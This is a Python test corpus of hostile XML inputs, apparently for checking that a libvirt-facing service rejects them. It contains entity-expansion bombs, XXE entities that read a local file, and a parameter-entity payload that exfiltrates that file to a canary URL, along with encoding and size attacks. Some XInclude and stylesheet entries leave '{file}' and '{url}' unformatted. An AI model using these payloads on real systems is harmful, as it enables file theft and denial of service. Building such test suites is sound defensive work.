# SPDX-License-Identifier: GPL-2.0-or-later
"""XML that nobody may post. Each is refused, or harms nothing."""
from canary import Canary

DOMAIN = "<domain type='test'><name>%s</name><memory>1024</memory><os><type>hvm</type></os></domain>"


def nested(name: str, depth: int, attributes: str = "") -> str:
    return f"<{name}{attributes}>" * depth + f"</{name}>" * depth


def doctypes(canary: Canary) -> dict[str, bytes]:
    """Every way to have a DOCTYPE: all are refused with 400."""
    root = DOMAIN % "&x;"
    laughs = "".join(f"<!ENTITY l{n + 1} '{f'&l{n};' * 10}'>" for n in range(12))
    quadratic = f"<!ENTITY x '{'a' * 60_000}'>"
    file, url = canary.file.as_uri(), canary.url
    texts = {
        "billion laughs": f"<!DOCTYPE d [<!ENTITY l0 'ha'>{laughs}<!ENTITY x '&l12;'>]>{root}",
        "quadratic": f"<!DOCTYPE d [{quadratic}]>" + DOMAIN % ("&x;" * 20_000),
        "attribute bomb": f"<!DOCTYPE d [<!ENTITY l0 'ha'>{laughs}]><domain type='&l12;'/>",
        "parameter bomb": "<!DOCTYPE d [<!ENTITY % a 'x'>" + "".join(f"<!ENTITY % a{n} '%a;%a;%a;'>" for n in range(40)) + f"]>{root}",
        "recursive": f"<!DOCTYPE d [<!ENTITY x '&y;'><!ENTITY y '&x;'>]>{root}",
        "external file": f"<!DOCTYPE d [<!ENTITY x SYSTEM '{file}'>]>{root}",
        "external path": f"<!DOCTYPE d [<!ENTITY x SYSTEM '{canary.file}'>]>{root}",
        "external url": f"<!DOCTYPE d [<!ENTITY x SYSTEM '{url}'>]>{root}",
        "external public": f"<!DOCTYPE d [<!ENTITY x PUBLIC '-//x' '{url}'>]>{root}",
        "external subset": f"<!DOCTYPE d SYSTEM '{url}'>{DOMAIN % 'x'}",
        "external subset of a file": f"<!DOCTYPE d SYSTEM '{file}'>{DOMAIN % 'x'}",
        "parameter entity": f"<!DOCTYPE d [<!ENTITY % p SYSTEM '{url}'>%p;]>{DOMAIN % 'x'}",
        "exfiltration": f"<!DOCTYPE d [<!ENTITY % f SYSTEM '{file}'><!ENTITY % p \"<!ENTITY x SYSTEM '{url}?%f;'>\">%p;]>{root}",
        "unparsed": f"<!DOCTYPE d [<!NOTATION n SYSTEM '{url}'><!ENTITY x SYSTEM '{file}' NDATA n>]>{DOMAIN % 'x'}",
        "defaults": f"<!DOCTYPE domain [<!ATTLIST domain type CDATA 'test'>]>{DOMAIN % 'x'}",
        "bare": f"<!DOCTYPE domain>{DOMAIN % 'x'}",
        "empty subset": f"<!DOCTYPE domain []>{DOMAIN % 'x'}",
        "after a comment": f"<!-- c --><!DOCTYPE domain [<!ENTITY x 'y'>]>{root}",
        "after an instruction": f"<?p i?>\n\n<!DOCTYPE domain [<!ENTITY x 'y'>]>{root}",
        "after white space": f"\n \t<!DOCTYPE domain [<!ENTITY x 'y'>]>{root}",
        "after a declaration": f"<?xml version='1.0'?><!-- --><!DOCTYPE domain>{DOMAIN % 'x'}",
        "after a byte order mark": f"\ufeff<!DOCTYPE domain>{DOMAIN % 'x'}",
        "over lines": f"<!DOCTYPE\n\n domain\n>{DOMAIN % 'x'}",
        "in version 1.1": f"<?xml version='1.1'?><!DOCTYPE domain>{DOMAIN % 'x'}",
        "with an endless comment": f"<!DOCTYPE domain [<!--{'x' * 100_000}-->]>{DOMAIN % 'x'}",
        "unfinished": "<!DOCTYPE domain [",
        "in capitals of another kind": f"<!doctype domain>{DOMAIN % 'x'}",
    }
    return {name: text.encode() for name, text in texts.items()}


def encodings() -> dict[str, bytes]:
    """The same in other encodings, declared or not: libvirt must not read what we did not."""
    text = f"<!DOCTYPE domain [<!ENTITY x 'y'>]>{DOMAIN % '&x;'}"
    corpus = {f"{name} bare": text.encode(name) for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037", "cp500")}
    for name in ("UTF-16", "UTF-7", "UTF-32", "IBM037", "EBCDIC-CP-US", "ISO-2022-JP", "SHIFT_JIS", "UCS-4", "HZ-GB-2312", "x-nonesuch", "", "utf-8\x00"):
        corpus[f"declared {name!r}"] = f"<?xml version='1.0' encoding='{name}'?>{DOMAIN % 'x'}".encode()
    corpus["declared UTF-7 and meant"] = b"<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-DOCTYPE d [+ADwAIQ-ENTITY x 'y'+AD4AXQA+-" + (DOMAIN % "x").encode()
    corpus["declared UTF-16 and meant"] = f"<?xml version='1.0' encoding='UTF-16'?>{text}".encode("utf-16")
    corpus["declared EBCDIC and meant"] = f"<?xml version='1.0' encoding='cp037'?>{text}".encode("cp037")
    corpus["Latin 1 with umlauts"] = "<?xml version='1.0' encoding='ISO-8859-1'?><domain><name>ä</name></domain>".encode("latin-1")
    corpus["Latin 1 that is UTF-8"] = "<?xml version='1.0' encoding='ISO-8859-1'?><domain><name>ä</name></domain>".encode()
    for name, raw in {
        "overlong slash": b"\xc0\xaf", "overlong nul": b"\xc0\x80", "surrogate": b"\xed\xa0\x80", "beyond unicode": b"\xf4\x90\x80\x80",
        "lone continuation": b"\x80", "truncated": b"\xe2\x82", "five bytes": b"\xf8\x88\x80\x80\x80", "nul": b"\x00", "nul after": b"",
    }.items():  # fmt: skip
        corpus[name] = b"<domain type='test'><name>a" + raw + b"b</name></domain>" + (b"\x00<x/>" if name == "nul after" else b"")
    return corpus


def shapes() -> dict[str, bytes]:
    """Too deep, too wide, too long."""
    many = 100_000
    texts = {
        "100,000 deep": nested("a", many),
        "1,000 deep in a domain": DOMAIN.replace("</domain>", f"<metadata>{nested('a', 1000)}</metadata></domain>") % "x",
        "255 deep": nested("a", 255),
        "unclosed": "<a>" * many,
        "giant attribute": f"<domain type='{'x' * 800_000}'/>",
        "giant name": f"<{'x' * 800_000}/>",
        "giant prefix": f"<{'x' * 400_000}:a/>",
        "giant text": DOMAIN % ("x" * 800_000),
        "giant comment": f"<!--{'x' * 800_000}--><domain/>",
        "giant instruction": f"<?x {'x' * 800_000}?><domain/>",
        "giant character data": f"<domain><![CDATA[{'x' * 800_000}]]></domain>",
        "many attributes": "<domain " + " ".join(f"a{n}='1'" for n in range(many)) + "/>",
        "the same attribute": "<domain " + "a='1' " * many + "/>",
        "many elements": "<domain>" + "<a/>" * 200_000 + "</domain>",
        "many namespaces": "<domain " + " ".join(f"xmlns:p{n}='urn:{n}'" for n in range(30_000)) + "/>",
        "namespaces in depth": "".join(f"<p{n}:a xmlns:p{n}='urn:{n}'>" for n in range(200)) + "".join(f"</p{n}:a>" for n in reversed(range(200))),
        "a long namespace": f"<domain xmlns='{'u' * 400_000}'/>",
        "attributes of many namespaces": "<d " + " ".join(f"xmlns:p{n}='urn:x' p{n}:a='1'" for n in range(3000)) + "/>",
        "many instructions": "<?a?>" * 50_000 + "<domain/>",
        "many comments": "<!---->" * 50_000 + "<domain/>",
        "many references": DOMAIN % ("&#65;" * 200_000),
        "a huge reference": DOMAIN % "&#99999999999999999999;",
        "a long reference": DOMAIN % f"&#{'0' * 400_000}65;",
        "a forbidden reference": DOMAIN % "&#0;&#xFFFE;&#xD800;",
        "an unknown entity": DOMAIN % "&nonesuch;",
        "white space": " " * 800_000 + "<domain/>",
        "white space in a tag": "<domain" + " " * 800_000 + "/>",
        "numbers": "<domain type='test'><name>x</name><memory>99999999999999999999999</memory><vcpu>4294967295</vcpu></domain>",
        "XInclude": "<domain xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='{file}' parse='text'/></domain>",
        "a schema": "<domain xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='urn:x {url}'/>",
        "a stylesheet": "<?xml-stylesheet type='text/xsl' href='{url}'?><domain/>",
        "a stylesheet as the document": "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:import href='{url}'/></xsl:stylesheet>",
        "a base": "<domain xml:base='{url}' xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='x'/></domain>",
        "two roots": "<domain/><domain/>",
        "nothing": " ",
        "text alone": "x",
        "a late declaration": " <?xml version='1.0'?><domain/>",
        "version 2": "<?xml version='2.0'?><domain/>",
        "half a tag": "<domain",
        "half an attribute": "<domain a='",
        "half a comment": "<domain><!--",
        "half character data": "<domain><![CDATA[",
    }
    return {name: text.encode() for name, text in texts.items()}
